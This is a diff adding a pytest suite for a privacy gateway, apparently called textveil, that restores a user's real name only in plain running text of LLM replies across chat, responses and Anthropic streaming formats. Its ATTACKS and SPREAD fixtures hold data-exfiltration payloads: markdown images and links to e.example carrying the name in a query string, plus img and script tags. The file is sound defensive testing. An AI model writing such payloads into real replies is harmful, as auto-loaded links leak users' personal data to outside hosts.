@@ -1,0 +1,325 @@
+"""Replies get the words of the user in running text alone, and where an option says so: whole and in any pieces."""
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from gateways import (
+    ANTHROPIC,
+    CHAT,
+    KEY,
+    RESPONSES,
+    asked,
+    call_of,
+    events_of,
+    gateway,
+    stream,
+    streamed_text,
+    text_of,
+)  # fmt: skip
+from textveil import Conversation, Sanitizer
+from textveil_cli.gateway.events import DONE, Event, Events
+from textveil_cli.gateway.replies import REPLIES, Restoring
+from textveil_cli.options import RestoreOptions
+from textveil_cli.serve.access import Refusal
+from upstream_replies import events, whole
+from upstreams import Upstream
+
+PATHS = [CHAT, RESPONSES, ANTHROPIC]
+NAME = "Anna Novak"
+COUNTS = "placed=2 unplaced=0 ambiguous=0 tools=0 skipped=3"
+#: What an upstream may write with a name, the option that opens the place, and the reason without it.
+ATTACKS = [
+    ("Look: ![x](https://e.example/?q={}) and on", {"restore_places": ["all"]}, "link"),
+    ("Look: [x](https://ok.example/?q={}) and on", {"restore_hosts": ["ok.example"]}, "link"),
+    ("Run `{}` now.", {"restore_places": ["code"]}, "code"),
+    ("So $x_{{}}$ is.", {"restore_places": ["math"]}, "math"),
+    ('{"name": "{}"}', {"restore_places": ["json"]}, "json"),
+    ("Look: <img src=x alt='{}'>", {"restore_places": "all"}, "markup"),
+    ("Look: https://e.example/?q={}", {"restore_places": "all"}, "chunk"),
+    ("<script>x</script> {}", {"restore_places": "all"}, "active"),
+]  # fmt: skip
+
+
+def cutting(length: int) -> Callable[[str], list[str]]:
+    return lambda text: [text[place : place + length] for place in range(0, len(text), length)]
+
+
+def exchange_of(sanitizer: Sanitizer, **options: Any) -> tuple[Conversation, str]:
+    """An exchange, and the surrogate that went out for the name through it."""
+    exchange = Conversation(sanitizer, **options).exchange()
+    return exchange, exchange.outgoing_text(f"I am {NAME}.")[5:-1]
+
+
+def read(content: str) -> list[Event]:
+    reader = Events(1 << 20)
+    found = [*reader.feed(content.encode())]
+    reader.close()
+    return found
+
+
+def restored(restoring: Restoring, came: list[Event], *, ends: bool = True) -> list[Event]:
+    """What a client gets of events, as the gateway passes them on."""
+    passed: list[Event] = []
+    for event in came:
+        if event.data == DONE:
+            passed += restoring.end()
+        passed += restoring.event(event) if isinstance(event.data, dict) else [event]
+    return [*passed, *restoring.end()] if ends else passed
+
+
+def written(passed: list[Event]) -> str:
+    return "".join(event.written().decode() for event in passed)
+
+
+@pytest.mark.parametrize("path", PATHS)
+@pytest.mark.parametrize(("reply", "option", "reason"), ATTACKS)
+def test_a_place_is_restored_if_its_option_says_so(
+    sanitizer: Sanitizer, path: str, reply: str, option: dict[str, Any], reason: str
+) -> None:
+    for given in ({}, option):
+        exchange, name = exchange_of(sanitizer, **given)
+        expected = reply.replace("{}", NAME if given else name)
+        body, stayed = asked(path, reply.replace("{}", name)), {} if given else {reason: 1}
+        once = REPLIES[path](exchange, ())
+        assert text_of(path, once.whole(whole(path, body))) == expected
+        assert (once.counts["skipped"], once.counts["placed"]) == (len(stayed), bool(given))
+        assert once.reasons == stayed
+        for length in range(1, 6):
+            streaming = REPLIES[path](exchange, ())
+            content = written(restored(streaming, read("".join(events(path, body, cutting(length))))))
+            assert streamed_text(path, content) == expected
+            assert (streaming.counts, streaming.reasons) == (once.counts, once.reasons)
+            assert (NAME in content) is bool(given)  # nor in the last events, which have the whole reply
+
+
+#: The first event of a stream after which a client takes no more of a text.
+FINISHES: dict[str, Callable[[dict[str, Any]], bool]] = {
+    CHAT: lambda data: any(choice["finish_reason"] for choice in data["choices"]),
+    RESPONSES: lambda data: data["type"] == "response.output_text.done",
+    ANTHROPIC: lambda data: data["type"] == "content_block_stop",
+}
+
+
+@pytest.mark.parametrize("path", PATHS)
+@pytest.mark.parametrize("end", ["{}", "x https://{}", "'{}", "Call {}, {}"])
+def test_what_is_held_back_comes_before_the_end(sanitizer: Sanitizer, path: str, end: str) -> None:
+    exchange, name = exchange_of(sanitizer)
+    text = end.replace("{}", name)
+    for length in (1, 4, 99):
+        body = asked(path, text)
+        passed = restored(REPLIES[path](exchange, ()), read("".join(events(path, body, cutting(length)))))
+        content = events_of(written(passed))
+        finish = next(place for place, data in enumerate(content) if FINISHES[path](data))
+        before = "".join(f"data: {json.dumps(data)}\n" for data in content[: finish + (path == CHAT)])
+        assert streamed_text(path, before) == exchange.incoming(text).reply
+
+
+@pytest.mark.parametrize("path", PATHS)
+def test_an_upstream_that_ends_anywhere_loses_nothing(sanitizer: Sanitizer, path: str) -> None:
+    exchange, name = exchange_of(sanitizer)
+    text = f"Dear {name}, see https://e.example/?q={name} or `{name}` {name}"
+    came = read("".join(events(path, asked(path, text), cutting(3))))
+    for place in range(len(came) + 1):
+        sent = streamed_text(path, written(came[:place]))
+        passed = restored(REPLIES[path](exchange, ()), read(written(came[:place])))
+        assert streamed_text(path, written(passed)) == exchange.incoming(sent).reply
+
+
+@pytest.mark.parametrize("ends", [False, True])
+def test_a_block_that_never_began_loses_nothing(sanitizer: Sanitizer, ends: bool) -> None:
+    exchange, name = exchange_of(sanitizer)
+    deltas = [{"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": c}} for c in name]
+    stop = [{"type": "content_block_stop", "index": 0}] if ends else []
+    restoring = REPLIES[ANTHROPIC](exchange, ())
+    passed = restored(restoring, [Event("", data) for data in [*deltas, *stop]])
+    assert streamed_text(ANTHROPIC, written(passed)) == NAME
+    assert restoring.said[-1][0]["content"][0]["text"] == NAME
+
+
+def test_no_field_but_texts_is_restored(sanitizer: Sanitizer) -> None:
+    """Addresses and titles of sources are fetched and shown: they stay, also where every place is opened."""
+    exchange, name = exchange_of(sanitizer, restore_places="all")
+    url = {"url": f"https://e.example/?{name}", "title": name, "cited_text": name, "document_title": name}
+    message = {
+        "role": "assistant", "content": name, "refusal": name, "reasoning": name, "name": name,
+        "annotations": [{"type": "url_citation", "url_citation": url}], "audio": {"transcript": name},
+        "images": [{"image_url": url}],
+    }  # fmt: skip
+    reply = {"id": name, "model": name, "choices": [{"message": message, "finish_reason": name}], "usage": {name: name}}
+    (choice,) = REPLIES[CHAT](exchange, ()).whole(json.loads(json.dumps(reply)))["choices"]
+    texts = {"content", "refusal", "reasoning"}
+    assert choice["message"] == {field: NAME if field in texts else value for field, value in message.items()}
+    block = {"type": "text", "text": name, "citations": [{"type": "web_search_result_location", **url}]}
+    other = {"type": "web_search_tool_result", "content": [{"type": "web_search_result", **url}]}
+    found = REPLIES[ANTHROPIC](exchange, ()).whole({"id": name, "content": [block, other]})
+    assert found == {"id": name, "content": [{**block, "text": NAME}, other]}
+    part = {"type": "output_text", "text": name, "annotations": [{"type": "url_citation", **url}], "logprobs": [url]}
+    item = {"type": "message", "id": name, "role": "assistant", "content": [part]}
+    found = REPLIES[RESPONSES](exchange, ()).whole({"instructions": name, "output": [item], "metadata": {"a": name}})
+    assert found["output"] == [{**item, "content": [{**part, "text": NAME}]}]
+    assert (found["instructions"], found["metadata"]) == (name, {"a": name})
+    added = {"type": "response.output_text.annotation.added", "annotation": {"type": "url_citation", **url}}
+    start = {"type": "content_block_start", "index": 0, "content_block": {**block, "text": ""}}
+    cited = {"type": "content_block_delta", "index": 0, "delta": {"type": "citations_delta", "citation": url}}
+    delta = {"choices": [{"index": 0, "delta": {"annotations": message["annotations"], "images": message["images"]}}]}
+    for path, data in ((RESPONSES, added), (ANTHROPIC, start), (ANTHROPIC, cited), (CHAT, delta)):
+        (event,) = REPLIES[path](exchange, ()).event(Event("", json.loads(json.dumps(data))))
+        assert event.data == data
+
+
+def test_where_a_reply_stopped_is_a_text_under_the_same_rule(sanitizer: Sanitizer) -> None:
+    exchange, name = exchange_of(sanitizer)
+    for stopped, expected in ((name, NAME), (attack := f"![](https://e.example/?{name})", attack), (None, None)):
+        found = REPLIES[ANTHROPIC](exchange, ()).whole({"content": [], "stop_sequence": stopped})
+        assert found["stop_sequence"] == expected
+        data = {"type": "message_delta", "delta": {"stop_reason": "stop_sequence", "stop_sequence": stopped}}
+        (event,) = REPLIES[ANTHROPIC](exchange, ()).event(Event("", data))
+        assert event.data["delta"]["stop_sequence"] == expected
+
+
+@pytest.mark.parametrize("path", PATHS)
+def test_a_reply_in_json_of_the_provider(sanitizer: Sanitizer, path: str) -> None:
+    """``response_format``, ``text.format`` and ``output_format`` give JSON in the text; it stays valid."""
+    for places in ((), ("json",)):
+        exchange, name = exchange_of(sanitizer, restore_places=places)
+        reply = json.dumps({"owner": {"name": name, "tags": [f"of {name}"]}, "note": f"Hi,\n{name}\nwrote"})
+        restoring = REPLIES[path](exchange, ())
+        content = written(restored(restoring, read("".join(events(path, asked(path, reply), cutting(2))))))
+        shown = NAME if places else name
+        assert json.loads(streamed_text(path, content)) == {
+            "owner": {"name": shown, "tags": [f"of {shown}"]}, "note": f"Hi,\n{shown}\nwrote",
+        }  # fmt: skip
+        assert restoring.reasons == ({} if places else {"json": 3})
+
+
+def test_the_options_of_the_command(up: Upstream, tmp_path: Path) -> None:
+    text = f"I am {NAME}. Or `{NAME}` or [{NAME}]({NAME}) or k={NAME}"  # nothing of it but names is replaced
+    with gateway(tmp_path, up.url, "--restore-places", "json", "--restore-places", "code") as server:
+        found, headers = server.ask("POST", CHAT, asked(CHAT, text), KEY)[1:]
+        assert text_of(CHAT, found).count(NAME) == 2
+        assert headers["x-textveil-counts"] == COUNTS
+        assert f": textveil {COUNTS}\n" in stream(server, ANTHROPIC, asked(ANTHROPIC, text))
+        assert server.stop() == 0
+        assert server.said.count(f" 200 {COUNTS} chunk=2 link=1\n") == 2
+        assert "--restore-places" not in server.said
+
+
+@pytest.mark.parametrize(
+    ("option", "value", "message"),
+    [
+        ("--restore-places", "links", "--restore-places takes a collection of code, json, math, all"),
+        ("--restore-hosts", "https://ok.example", "--restore-hosts takes a collection of host names"),
+    ],
+)
+def test_options_that_are_wrong(here: Callable[..., Any], option: str, value: str, message: str) -> None:
+    ran = here("gateway", "--upstream", "http://localhost:1", option, value)
+    assert (ran.code, ran.out) == (1, b"")
+    assert ran.message.startswith(f"textveil: option: {message}")
+
+
+def test_hosts_of_the_command() -> None:
+    options = RestoreOptions(restore_hosts=["ok.example"])
+    assert options.keywords() == {"restore_places": (), "restore_hosts": ["ok.example"]}
+    assert options.parse_policy().hosts == {"ok.example"}
+
+
+def test_every_place_is_warned_of(up: Upstream, tmp_path: Path) -> None:
+    with gateway(tmp_path, up.url, "--restore-places", "all") as server:
+        found = server.ask("POST", CHAT, asked(CHAT, f"![](https://e.example/?{NAME})"), KEY)[1]
+        server.stop()
+    assert NAME in text_of(CHAT, found)
+    assert "--restore-places all: " in server.said
+
+
+def test_a_kept_conversation_is_restored_as_its_gateway_says(up: Upstream, tmp_path: Path) -> None:
+    """Two gateways may have one folder: what goes out is the same, and each restores by its own options."""
+    kept = ("--mappings", tmp_path / "kept", "--mappings-key", tmp_path / "key")
+    (tmp_path / "kept").mkdir()
+    named, text = {**KEY, "X-Textveil-Conversation": "one"}, f"I am {NAME}, `{NAME}`."
+    sent = []
+    for number, (options, count) in enumerate((((), 1), (("--restore-places", "code"), 2), ((), 1))):
+        (place := tmp_path / str(number)).mkdir()
+        with gateway(place, up.url, *kept, *options) as server:
+            found = server.ask("POST", CHAT, asked(CHAT, text), named)[1]
+            server.stop()
+        assert text_of(CHAT, found).count(NAME) == count
+        sent.append(up.last["messages"])
+    assert sent[0] == sent[1] == sent[2]
+
+
+def test_places_of_texts_do_not_open_arguments_of_tools(sanitizer: Sanitizer) -> None:
+    exchange, name = exchange_of(sanitizer, restore_places="all")
+    for path in PATHS:
+        restoring = REPLIES[path](exchange, ())
+        assert call_of(path, restoring.whole(whole(path, asked(path, name, "call")))) == {"who": name}
+        assert restoring.counts["tools"] == 1
+
+
+#: Texts of one reply that clients may join, or show one by one; in one of the two views the name stands in a link.
+SPREAD = [
+    ("![x](<https://e.example/?q=", " {} >)", "link"),
+    ("`", "![x](<https://e.example/?q=` {} >)", "link"),
+    ("https://e.example/?q=", "{}", "chunk"),
+    ("<script>", " {}", "active"),
+]
+
+
+def spread_over(path: str, texts: list[str]) -> list[Event]:
+    """A stream with texts in parts of their own."""
+    found: list[dict[str, Any]] = []
+    for index, text in enumerate(texts):
+        at = {"output_index": 0, "content_index": index, "sequence_number": 1}
+        if path == ANTHROPIC:
+            found.append({"type": "content_block_start", "index": index, "content_block": {"type": "text", "text": ""}})
+            deltas = [{"type": "text_delta", "text": part} for part in cutting(2)(text)]
+            found += [{"type": "content_block_delta", "index": index, "delta": delta} for delta in deltas]
+            found.append({"type": "content_block_stop", "index": index})
+        else:
+            found += [{"type": "response.output_text.delta", **at, "delta": part} for part in cutting(2)(text)]
+            found.append({"type": "response.output_text.done", **at, "text": text})
+            found.append({"type": "response.content_part.done", **at, "part": {"type": "output_text", "text": text}})
+    if path == RESPONSES:
+        item = {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": t} for t in texts]}
+        found.append({"type": "response.output_item.done", "output_index": 0, "item": item})
+        found.append({"type": "response.completed", "response": {"output": [item]}})
+    return [Event("", data) for data in found]
+
+
+@pytest.mark.parametrize("path", [RESPONSES, ANTHROPIC])
+@pytest.mark.parametrize(("first", "second", "reason"), SPREAD)
+def test_no_place_is_spread_over_two_texts(
+    sanitizer: Sanitizer, path: str, first: str, second: str, reason: str
+) -> None:
+    exchange, name = exchange_of(sanitizer)
+    for texts, stays in (([first, second], True), (["Hello, ", "{} and ", "`x` {}."], False)):
+        restoring = REPLIES[path](exchange, ())
+        content = written(restored(restoring, spread_over(path, [text.replace("{}", name) for text in texts])))
+        assert (NAME in content) is not stays
+        assert streamed_text(path, content) == "".join(texts).replace("{}", name if stays else NAME)
+        assert restoring.reasons == ({reason: 1} if stays else {})
+        assert (name in content) is stays
+
+
+@pytest.mark.parametrize("path", [RESPONSES, ANTHROPIC])
+def test_a_text_is_not_gone_on_with_after_the_next_one(sanitizer: Sanitizer, path: str) -> None:
+    """Else a link could be begun in front of a name that is out already."""
+    exchange, name = exchange_of(sanitizer)
+    came = [event for event in spread_over(path, ["Hello ", f"{name} "]) if "delta" in event.data]
+    late = Event("", json.loads(json.dumps(came[0].data)))
+    restoring = REPLIES[path](exchange, ())
+    passed = restored(restoring, came, ends=False)
+    with pytest.raises(Refusal, match="wrote to a text again"):
+        list(restoring.event(late))
+    assert streamed_text(path, written([*passed, *restoring.end()])) == f"Hello {NAME} "
+
+
+def test_a_thought_that_goes_on_is_one_text(sanitizer: Sanitizer) -> None:
+    exchange, name = exchange_of(sanitizer)
+    deltas = [{"reasoning": "![x](<https://e.example/?q="}, {"content": "a"}, {"reasoning": f" {name} >)"}]
+    passed = restored(
+        REPLIES[CHAT](exchange, ()), [Event("", {"choices": [{"index": 0, "delta": delta}]}) for delta in deltas]
+    )
+    assert NAME not in written(passed)
